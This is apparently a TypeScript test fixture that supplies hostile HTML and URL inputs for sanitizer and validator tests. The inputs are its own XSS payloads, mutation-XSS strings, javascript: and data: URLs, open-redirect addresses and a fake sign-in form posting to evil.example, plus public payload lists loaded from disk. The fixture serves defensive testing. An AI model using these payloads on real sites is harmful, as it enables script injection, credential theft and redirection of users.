/**
 * Hostile markup and addresses: a small set of our own, and the large public lists if the folder in HOSTILE_INPUTS has
 * them.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const ownMarkup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=9 /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://portal@evil.example/">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<base href="https://evil.example/"><a href="/home">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style><p>x</p>',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  '<div style="background:url(https://evil.example/track.png)">x</div>',
  '<p style="width:expression(alert(1));color:red">x</p>',
  '<p style="color:red;position:absolute;top:0">x</p>',
  '<div id="root"></div><a name="cookie"></a><img name="body"><img id="getElementById" name="querySelector">',
  '<div class="ant-modal-wrap" data-toast="x" aria-hidden="true" role="dialog">x</div>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/a.png 1x" src="javascript:alert(1)">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext>',
  '<select><option onmouseover=alert(1)>x</option></select><textarea autofocus onfocus=alert(1)></textarea>',
  '<marquee onstart=alert(1)>x</marquee><blink>x</blink>',
  '<table background="javascript:alert(1)"><tr><td background="x" onclick=alert(1)>x</td></tr></table>',
  '<p onclick="alert(1)" tabindex=1 autofocus accesskey=x contenteditable>x</p>',
  '<a href="https://example.org" target="_self" rel="opener" ping="https://evil.example" download>x</a>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '"><img src=x onerror=alert(1)>',
  '\u0000<img src=x onerror=alert(1)>',
  '<<script>script>alert(1)<</script>/script>',
];

const ownAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://portal.example/1',
  'about:blank',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https:evil.example',
  'https:\\\\evil.example',
  'https://portal.example@evil.example',
  'https://user:secret@portal.example/',
  'http:///evil.example',
  'https://',
  '',
];

const folder = process.env.HOSTILE_INPUTS;
const isThere = folder !== undefined && existsSync(folder);

const readJson = (name: string) => JSON.parse(readFileSync(join(folder!, name), 'utf8')) as unknown;
const readLines = (file: string) => readFileSync(file, 'utf8').split(/\r?\n/).filter(Boolean);

function readMarkup(): string[] {
  const lists = join(folder!, 'payloadsallthethings');
  const lines = readdirSync(lists)
    .filter((name) => name.endsWith('.txt') && !name.startsWith('open-redirect'))
    .flatMap((name) => readLines(join(lists, name)));
  const files = join(lists, 'attachments');
  const attachments = readdirSync(files).map((name) => readFileSync(join(files, name), 'latin1'));
  const known = (readJson('dompurify/expect.json') as { payload: string }[]).map(({ payload }) => payload);
  return [...known, ...lines, ...attachments, ...(readJson('blns/blns.json') as string[])];
}

function readAddresses(): string[] {
  const lists = join(folder!, 'payloadsallthethings');
  const redirects = readdirSync(lists)
    .filter((name) => name.startsWith('open-redirect'))
    .flatMap((name) => readLines(join(lists, name)));
  const urls = (readJson('wpt-url/urltestdata.json') as (string | { input: string })[])
    .filter((entry) => typeof entry !== 'string')
    .map(({ input }) => input);
  return [...urls, ...redirects];
}

/** Hostile markup: our own, and the public lists if available. */
export const hostileMarkup = (): string[] => [...new Set([...ownMarkup, ...(isThere ? readMarkup() : [])])];

/** Hostile addresses, likewise. */
export const hostileAddresses = (): string[] => [...new Set([...ownAddresses, ...(isThere ? readAddresses() : [])])];
